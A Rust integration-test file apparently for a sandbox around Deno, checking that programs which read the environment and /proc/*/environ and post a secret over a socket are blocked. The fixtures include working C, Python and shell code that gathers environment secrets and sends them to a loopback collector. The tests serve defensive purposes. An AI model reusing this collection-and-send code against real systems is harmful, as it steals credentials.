// SPDX-License-Identifier: MIT
//! The cases of the README: a program that reads the whole environment and posts it out, in every
//! disguise.

use std::io::Read;
use std::net::TcpListener;

use crate::support::{Outcome, Project, compile, python};

const DANGEROUS: &str = include_str!("../data/dangerous.ts");

/// Counts what arrives at a loopback address.
struct Collector {
    listener: TcpListener,
}

impl Collector {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { listener }
    }

    fn port(&self) -> String {
        self.listener.local_addr().unwrap().port().to_string()
    }

    /// What the first waiting peer sent, if there is one.
    fn received(&self) -> Option<String> {
        let (mut stream, _) = self.listener.accept().ok()?;
        stream.set_nonblocking(false).unwrap();
        let mut bytes = vec![0; 65536];
        let mut text = String::new();
        while !text.contains("hidden-value") {
            match stream.read(&mut bytes) {
                Ok(0) | Err(_) => break,
                Ok(count) => text.push_str(&String::from_utf8_lossy(&bytes[..count])),
            }
        }
        Some(text)
    }
}

fn nothing_left(outcome: &Outcome, collector: &Collector) {
    outcome.expect_nowhere("hidden-value");
    assert_eq!(collector.received(), None, "something was posted");
}

#[test]
fn the_dangerous_script_stops_with_denos_message() {
    let collector = Collector::start();
    let project = Project::new().file("dangerous.ts", DANGEROUS);
    let port = collector.port();
    for flags in [&[][..], &["--allow-net"]] {
        let mut arguments = vec!["run"];
        arguments.extend(flags);
        arguments.extend(["dangerous.ts", &port]);
        let confined = project
            .stockade(&arguments)
            .env("SECRET_TOKEN", "hidden-value")
            .run();
        confined.expect_same(
            &project
                .bare(&arguments)
                .env("SECRET_TOKEN", "hidden-value")
                .run(),
        );
        confined.expect_code(1).expect_error(
            "error: Uncaught (in promise) NotCapable: Requires env access, run again with the --allow-env flag",
        );
        nothing_left(&confined, &collector);
    }
    let arguments = ["run", "--allow-env", "dangerous.ts", &port];
    let confined = project
        .stockade(&arguments)
        .env("SECRET_TOKEN", "hidden-value")
        .run();
    confined.expect_same(
        &project
            .bare(&arguments)
            .env("SECRET_TOKEN", "hidden-value")
            .run(),
    );
    confined.expect_code(1).expect_error(&format!(
        "NotCapable: Requires net access to \"127.0.0.1:{port}\", run again with the --allow-net flag"
    ));
    nothing_left(&confined, &collector);
    // With both it does what it says.
    let child = project
        .stockade(&["run", "--allow-env", "--allow-net", "dangerous.ts", &port])
        .env("SECRET_TOKEN", "hidden-value")
        .into_command()
        .stderr(std::process::Stdio::null())
        .spawn();
    posted(child.unwrap(), &collector);
}

/// Waits for the post of a program that is let through, then ends it: nobody answers it.
fn posted(mut child: std::process::Child, collector: &Collector) {
    let mut text = None;
    for _ in 0..4000 {
        text = collector.received();
        if text.is_some() || child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let text = text.or_else(|| collector.received());
    let _ = child.kill();
    let _ = child.wait();
    assert!(
        text.as_deref().unwrap_or_default().contains("hidden-value"),
        "{text:?}"
    );
}

/// Posts the environment of the process it is loaded into, and that of its parent.
const NATIVE: &str = r#"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
extern char **environ;
int post(int port) {
  int found = 0;
  char path[64], buffer[65536];
  for (char **v = environ; *v; v++) if (strstr(*v, "hidden-value")) { found |= 1; strcpy(buffer, *v); }
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "/proc/%d/environ", i ? getppid() : getpid());
    int fd = open(path, O_RDONLY);
    ssize_t got = fd < 0 ? -1 : read(fd, buffer, sizeof buffer);
    if (got > 0 && memmem(buffer, got, "hidden-value", 12)) found |= 2 << i;
  }
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
    found |= 8;
    write(fd, "hidden-value", 12);
    close(fd);
  }
  return found;
}
#ifdef PROGRAM
int main(int count, char **arguments) { printf("%d\n", post(atoi(arguments[1]))); return 0; }
#endif
"#;

#[test]
fn the_same_from_a_native_library_finds_nothing() {
    let collector = Collector::start();
    let project = Project::new().file(
        "main.ts",
        "const library = Deno.dlopen(Deno.args[0], { post: { parameters: ['i32'], result: 'i32' } });\nconsole.log(library.symbols.post(Number(Deno.args[1])));\n",
    );
    let library = project.path("libpost.so");
    compile(
        &format!("#define _GNU_SOURCE\n{NATIVE}"),
        std::path::Path::new(&library),
        &["-shared", "-fPIC"],
    );
    let port = collector.port();
    let grant = format!("--allow-ffi={library}");
    for flags in [&[grant.as_str()][..], &[&grant, "--allow-read"]] {
        let mut arguments = vec!["run"];
        arguments.extend(flags);
        arguments.extend(["main.ts", &library, &port]);
        let confined = project
            .stockade(&arguments)
            .env("SECRET_TOKEN", "hidden-value")
            .run();
        confined.expect_output("0\n");
        nothing_left(&confined, &collector);
    }
    let bare = project
        .bare(&["run", &grant, "main.ts", &library, &port])
        .env("SECRET_TOKEN", "hidden-value")
        .run();
    bare.expect_success();
    let found: i32 = bare.stdout.trim().parse().unwrap();
    assert_eq!(
        found & 0b1011,
        0b1011,
        "environment, /proc and network are open outside"
    );
    assert!(collector.received().unwrap().contains("hidden-value"));
    let granted = project
        .stockade(&[
            "run",
            &grant,
            "--allow-env=SECRET_TOKEN",
            "--allow-net",
            "main.ts",
            &library,
            &port,
        ])
        .env("SECRET_TOKEN", "hidden-value")
        .run();
    granted.expect_output("9\n");
    assert!(collector.received().unwrap().contains("hidden-value"));
}

#[test]
fn the_same_from_children_finds_nothing() {
    let python = python().to_str().unwrap();
    let program_directory = Project::new();
    let program = program_directory.path("post");
    compile(
        &format!("#define _GNU_SOURCE\n#define PROGRAM\n{NATIVE}"),
        std::path::Path::new(&program),
        &[],
    );
    let in_python = r#"
import os, socket, sys
text = "\n".join(f"{k}={v}" for k, v in os.environ.items())
for pid in ("self", str(os.getppid()), "1"):
    try: text += open(f"/proc/{pid}/environ").read()
    except OSError: pass
print("found" if "hidden-value" in text else "nothing")
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(text.encode())
    print("posted")
except OSError as error: print("not posted", error.errno)
"#;
    let in_shell = r#"
env | grep -q hidden-value && echo found || echo nothing
cat /proc/self/environ /proc/$PPID/environ /proc/$$/environ 2>/dev/null | tr '\0' '\n' | grep -q hidden-value && echo found || echo nothing
"#;
    let collector = Collector::start();
    let port = collector.port();
    let project = Project::new();
    let cases: [(&str, Vec<&str>, &str, &str); 3] = [
        (
            python,
            vec![python, "-c", in_python, &port],
            "nothing\nnot posted 13\n",
            "found\nposted\n",
        ),
        (
            "sh,env,grep,cat,tr",
            vec!["sh", "-c", in_shell],
            "nothing\nnothing\n",
            "found\nfound\n",
        ),
        (&program, vec![&program, &port], "0\n", "15\n"),
    ];
    for (grant, started, denied, open) in &cases {
        let grant = format!("--allow-run={grant}");
        let confined = project
            .start(&[&grant], started)
            .env("SECRET_TOKEN", "hidden-value")
            .run();
        confined.expect_output(denied);
        nothing_left(&confined, &collector);
        let outside = project
            .launch(std::path::Path::new(started[0]), &started[1..])
            .env("SECRET_TOKEN", "hidden-value")
            .run();
        outside.expect_success();
        if *started[0] == program {
            // The parent of the control is this test, which need not know the secret.
            let found: i32 = outside.stdout.trim().parse().unwrap();
            assert_eq!(found & 0b1011, 0b1011);
        } else {
            outside.expect_output(open);
        }
        while collector.received().is_some() {}
        let granted = project
            .start(
                &[&grant, "--allow-env=SECRET_TOKEN", "--allow-net"],
                started,
            )
            .env("SECRET_TOKEN", "hidden-value")
            .run();
        granted.expect_success();
        assert_ne!(granted.stdout, **denied, "the grants open it");
        while collector.received().is_some() {}
    }
}

#[test]
fn the_same_through_proc_finds_nothing() {
    let victim = crate::victim::Victim::start("hidden-value");
    let pid = victim.pid();
    let script = format!(
        "for (const path of ['/proc/self/environ', '/proc/{pid}/environ', `/proc/${{Deno.ppid}}/environ`, '/proc/thread-self/environ', '/proc/{pid}/root/proc/self/environ']) {{
           try {{ console.log(Deno.readTextFileSync(path).includes('hidden-value')); }} catch (error) {{ console.log((error as Error).name); }}
         }}"
    );
    let project = Project::new().file("proc.ts", &script);
    for (flags, expected) in [
        (&[][..], "NotCapable\n".repeat(5)),
        (&["--allow-read"], "NotCapable\n".repeat(5)),
        (&["--allow-read=/proc"], "NotCapable\n".repeat(5)),
    ] {
        let mut arguments = vec!["run"];
        arguments.extend(flags);
        arguments.push("proc.ts");
        project
            .stockade(&arguments)
            .env("SECRET_TOKEN", "hidden-value")
            .run()
            .expect_output(&expected);
    }
    // Without Deno's checks the kernel's are left: of its own, `-A` shows what `-A` inherits.
    let confined = project
        .stockade(&["run", "-A", "proc.ts"])
        .env("SECRET_TOKEN", "hidden-value")
        .run();
    confined.expect_success();
    let lines: Vec<&str> = confined.stdout.lines().collect();
    assert_eq!(lines[1], "PermissionDenied", "another process: {lines:?}");
    assert_ne!(lines[2], "true", "the launcher: {lines:?}");
    assert_ne!(lines[4], "true", "another process: {lines:?}");
    let outside = project
        .bare(&["run", "-A", "proc.ts"])
        .env("SECRET_TOKEN", "hidden-value")
        .run();
    assert!(
        outside.stdout.starts_with("true\ntrue\n"),
        "{}",
        outside.stdout
    );
}
